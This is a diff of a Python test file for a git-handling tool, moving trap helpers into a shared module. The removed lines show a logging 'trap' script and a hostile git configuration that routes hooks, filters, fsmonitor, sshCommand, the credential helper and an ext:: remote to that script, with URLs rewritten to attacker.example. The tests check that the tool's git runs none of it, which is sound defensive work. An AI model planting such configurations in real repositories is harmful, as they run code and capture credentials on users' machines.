@@ -12,81 +12,12 @@ import pytest
 from domain.pull import Push, PushKind
 from forge.git import Auth
 from tests.forge.desk import BRANCH, TASK, Desk, plain_git, write
-
-SECRET = "ghs_" + "s3cr3t" * 8
+from tests.forge.traps import SECRET, hostile_config, make_trap, set_traps, sprung
 
 
 @pytest.fixture
 def trap(tmp_path: Path) -> Path:
-    """A program that writes down that it was run, with its arguments and environment."""
-    program = tmp_path / "trap.sh"
-    program.write_text(f'#!/bin/sh\n{{ echo "$0 $*"; env; }} >> {tmp_path}/sprung\ncat\nexit 0\n')
-    program.chmod(0o755)
-    return program
-
-
-def sprung(trap: Path) -> str:
-    log = trap.with_name("sprung")
-    return log.read_text() if log.exists() else ""
-
-
-def hostile_config(trap: Path) -> str:
-    included = trap.with_name("included")
-    included.write_text(f"[core]\n\tfsmonitor = {trap}\n\tsshCommand = {trap}\n")
-    return f"""
-[include]
-\tpath = {included}
-[core]
-\tfsmonitor = {trap}
-\thooksPath = {trap.parent}/hooks
-\tsshCommand = {trap}
-\tpager = {trap}
-\teditor = {trap}
-\tgitProxy = {trap}
-[filter "trap"]
-\tclean = {trap}
-\tsmudge = {trap}
-\tprocess = {trap}
-\trequired = true
-[diff "trap"]
-\ttextconv = {trap}
-\tcommand = {trap}
-[merge "trap"]
-\tdriver = {trap}
-[credential]
-\thelper = {trap}
-[url "https://attacker.example/"]
-\tinsteadOf = https://
-\tinsteadOf = file://
-[remote "origin"]
-\turl = ext::{trap}
-\tuploadpack = {trap}
-\treceivepack = {trap}
-[protocol]
-\tallow = always
-"""
-
-
-def set_traps(workspace: Path, trap: Path) -> None:
-    git_dir = workspace / ".git"
-    with (git_dir / "config").open("a") as config:
-        config.write(hostile_config(trap))
-    hooks = trap.parent / "hooks"
-    for folder in (hooks, git_dir / "hooks"):
-        folder.mkdir(exist_ok=True)
-        for hook in (
-            "pre-commit",
-            "pre-push",
-            "post-checkout",
-            "post-index-change",
-            "reference-transaction",
-            "pre-auto-gc",
-        ):
-            shutil.copy(trap, folder / hook)
-    write(
-        workspace,
-        {".gitattributes": "* filter=trap diff=trap merge=trap\n", ".git/info/attributes": "* filter=trap\n"},
-    )
+    return make_trap(tmp_path)
 
 
 def test_a_hostile_repository_runs_nothing_while_it_is_collected_and_pushed(desk: Desk, trap: Path) -> None:
@@ -101,9 +32,7 @@ def test_a_hostile_repository_runs_nothing_while_it_is_collected_and_pushed(desk
     assert sprung(trap) == ""
 
 
-def test_the_traps_would_have_sprung_for_a_git_that_reads_the_agents_configuration(
-    desk: Desk, trap: Path
-) -> None:
+def test_the_traps_would_have_sprung_for_a_git_that_reads_the_agents_configuration(desk: Desk, trap: Path) -> None:
     set_traps(desk.workspace, trap)
     # It fails, too: the filter is required, and the trap is no filter.
     with pytest.raises(subprocess.CalledProcessError):
@@ -111,9 +40,7 @@ def test_the_traps_would_have_sprung_for_a_git_that_reads_the_agents_configurati
     assert str(trap) in sprung(trap)
 
 
-def test_attributes_of_a_commit_run_nothing_while_it_is_checked_out(
-    desk: Desk, trap: Path, tmp_path: Path
-) -> None:
+def test_attributes_of_a_commit_run_nothing_while_it_is_checked_out(desk: Desk, trap: Path, tmp_path: Path) -> None:
     set_traps(desk.workspace, trap)
     head = desk.collect().head_sha
     desk.mirror.checkout(tmp_path / "check", head)
@@ -200,8 +127,6 @@ def test_our_git_hears_nothing_of_the_users_configuration_and_environment(
     monkeypatch.setenv("GIT_ASKPASS", str(trap))
     write(desk.workspace, {"a": "1"})
     head = desk.collect().head_sha
-    assert (
-        desk.mirror.push(desk.remote.url, Auth.with_token(SECRET), BRANCH, head, "").kind == PushKind.PUSHED
-    )
+    assert desk.mirror.push(desk.remote.url, Auth.with_token(SECRET), BRANCH, head, "").kind == PushKind.PUSHED
     assert sprung(trap) == ""
     assert not (tmp_path / "trace").exists()
